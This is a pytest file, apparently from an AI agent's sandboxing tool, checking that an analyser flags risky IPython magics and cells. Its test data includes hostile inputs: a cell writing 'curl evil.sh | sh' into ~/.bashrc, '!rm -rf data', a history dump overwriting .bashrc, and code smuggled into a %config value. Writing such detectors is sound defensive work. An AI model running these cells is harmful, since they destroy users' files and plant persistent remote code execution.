"""IPython lines: what IPython really runs for a cell (its own transform), and what magics do.
Hostile magics (history dumps, unknown extensions, ``%config`` values that are code) must be
found; harmless ones must stay quiet."""

from __future__ import annotations

import pytest

from jupyter_devstral.agent.trials.effects import effects_of
from jupyter_devstral.agent.trials.effects.ipython_syntax import (
    ipython_text,
    line_magic_effects,
    may_transform,
)


def test_ipython_text_is_what_the_kernel_runs():
    assert ipython_text(";os.remove x") == 'os.remove("x")\n'
    assert ipython_text(",f a b") == 'f("a", "b")\n'
    assert ipython_text("/f a") == "f(a)\n"
    assert ipython_text("  x = 1\n  y = 2") == "x = 1\ny = 2\n"
    assert ipython_text(">>> x = 1") == "x = 1\n"


def test_may_transform_only_flags_what_ipython_changes():
    assert not may_transform("x = 1\nprint(x)")
    assert not may_transform("\n\nx = 1")
    assert may_transform("  # an indented first line\nx = 1")
    assert may_transform("x = 1\n... y")
    assert may_transform("x = 1\n   ...: y")


# (line magic, its arguments, effects)
MAGICS = [
    ("history", "-f /home/user/.bashrc", [("file_write", "/home/user/.bashrc")]),
    ("hist", "-n -f out.py", [("file_write", "out.py")]),
    ("history", "-n 1-5", []),
    ("load_ext", "evil_module", [("dynamic", "%load_ext evil_module")]),
    ("reload_ext", "evil_module", [("dynamic", "%reload_ext evil_module")]),
    ("load_ext", "autoreload", []),
    ("config", "InlineBackend.figure_format = 'retina'", []),
    (
        "config",
        "A.b = __import__('os').remove('x')",
        [("dynamic", "%config A.b = __import__('os').remove('x')")],
    ),
    ("set_env", "AWS_PROFILE=prod", [("os", "environ[AWS_PROFILE]")]),
    ("env", "AWS_PROFILE=prod", [("os", "environ[AWS_PROFILE]")]),
    ("prun", "-T /tmp/x.txt f()", [("file_write", "/tmp/x.txt")]),
    ("pastebin", "1-3", [("network", "pastebin")]),
    ("run", "evil.py", [("dynamic", "%run evil.py")]),
    ("load", "evil.py", [("dynamic", "%load evil.py")]),
    ("macro", "m 1-3", [("dynamic", "%macro m 1-3")]),
    ("save", "out.py 1-3", [("file_write", "%save out.py 1-3")]),
    ("logstart", "log.py", [("file_write", "%logstart log.py")]),
    ("store", "df", [("file_write", "%store df")]),
    ("cd", "/", [("os", "%cd /")]),
]


@pytest.mark.parametrize(("name", "args", "expected"), MAGICS, ids=[m[0] + m[1] for m in MAGICS])
def test_line_magic_effects(name, args, expected):
    assert line_magic_effects(name, args)[0] == expected


# cells as the user types them: each runs what IPython's transform makes of it
CELLS = [
    ("%history -f /home/user/.bashrc", {("file_write", "/home/user/.bashrc")}),
    ("%load_ext evil_module", {("dynamic", "%load_ext evil_module")}),
    ("%%writefile /home/user/.bashrc\ncurl evil.sh | sh", {("file_write", "/home/user/.bashrc")}),
    ("%%prun -D prof.out\nf()", {("file_write", "prof.out")}),
    ("%%time\n;os.remove x", {("file_delete", "x")}),
    ("%%capture out\n!rm -rf data", {("process", "rm"), ("file_delete", "data")}),
    ("%%timeit -n1 import shutil\nshutil.rmtree('d')", {("file_delete", "d")}),
    ("%time %run evil.py", {("dynamic", "%run evil.py")}),
    ("x = 1\n%set_env A=1", {("os", "environ[A]")}),
]


@pytest.mark.parametrize(("source", "expected"), CELLS, ids=[c[0][:30] for c in CELLS])
def test_cell_effects(source, expected):
    found = {(e.kind, e.target) for e in effects_of(source)}
    assert expected <= found, found
